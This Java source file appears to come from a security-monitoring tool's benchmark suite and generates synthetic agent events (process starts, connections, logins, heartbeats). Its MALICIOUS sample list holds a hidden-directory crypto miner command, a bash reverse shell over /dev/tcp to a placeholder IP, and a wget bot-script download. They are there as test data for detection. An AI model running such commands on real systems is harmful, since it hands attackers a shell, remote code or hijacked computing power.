package io.vigil.bench;

import io.vigil.model.event.ConnectionCreate;
import io.vigil.model.event.Direction;
import io.vigil.model.event.EventHeader;
import io.vigil.model.event.Heartbeat;
import io.vigil.model.event.Login;
import io.vigil.model.event.ProcessCreate;
import io.vigil.model.event.SecurityEvent;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Events as a gateway fleet's agents send them, in the proportions the benchmarks share: 55%
 * process starts (about one in a hundred of them malicious: a miner, a reverse shell, a bot
 * download, each raising an alert), 30% outbound connections, 10% logins (a fifth failed), 5%
 * heartbeats. Deterministic for a given {@link Random}.
 */
public final class FleetMix {
  private static final String[][] PROGRAMS = {
      {"/usr/bin/ls", "ls -la /var/log"}, {"/usr/bin/cat", "cat /etc/os-release"}, {"/usr/bin/curl", "curl -s https://api.example.com/v1/telemetry"},
      {"/usr/sbin/ip", "ip addr show eth0"}, {"/usr/bin/python3", "python3 /opt/app/collector.py --interval 10"},
      {"/bin/sh", "sh -c /opt/app/healthcheck.sh"}, {"/usr/bin/systemctl", "systemctl status app.service"},
      {"/usr/bin/grep", "grep -c ERROR /var/log/app.log"}, {"/usr/bin/date", "date +%s"}, {"/usr/bin/awk", "awk {print $1} /proc/loadavg"}};
  private static final String[][] MALICIOUS = {
      {"/tmp/.x/xmrig", "/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u wallet"},
      {"/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
      {"/usr/bin/wget", "wget http://198.51.100.7/bot.sh -O /tmp/bot.sh"}};

  private FleetMix() {}

  /** One event of the mix, with header {@code h}. */
  public static SecurityEvent event(Random random, EventHeader h) {
    int roll = random.nextInt(1000);
    if (roll < 550) {
      String[] p = roll < 5 ? MALICIOUS[random.nextInt(MALICIOUS.length)] : PROGRAMS[random.nextInt(PROGRAMS.length)];
      return new ProcessCreate(h, List.of(new ProcessCreate.Process(p[0], 1000 + random.nextInt(30000), 900, "0", "root", p[1],
          Map.of("ParentExecutable", "/usr/lib/systemd/systemd"))));
    } else if (roll < 850) {
      String remote = "10.0." + random.nextInt(4) + "." + random.nextInt(250);
      return new ConnectionCreate(h, List.of(new ConnectionCreate.Connection(remote, random.nextBoolean() ? "443" : "8883",
          "10.1.0.5", Integer.toString(40000 + random.nextInt(20000)), Direction.OUT, "TCP", 1200, "1000", "/usr/bin/python3",
          "python3 /opt/app/collector.py", Map.of())));
    } else if (roll < 950) {
      Login.Result result = random.nextInt(5) == 0 ? Login.Result.FAIL : Login.Result.SUCCESS;
      return new Login(h, List.of(new Login.Attempt(700, "1000", "operator", "ssh", "/usr/sbin/sshd",
          "192.168.1." + random.nextInt(20), "52000", "22", result, Map.of())));
    }
    return new Heartbeat(h, List.of(new Heartbeat.Beat(3600, Map.of())));
  }
}
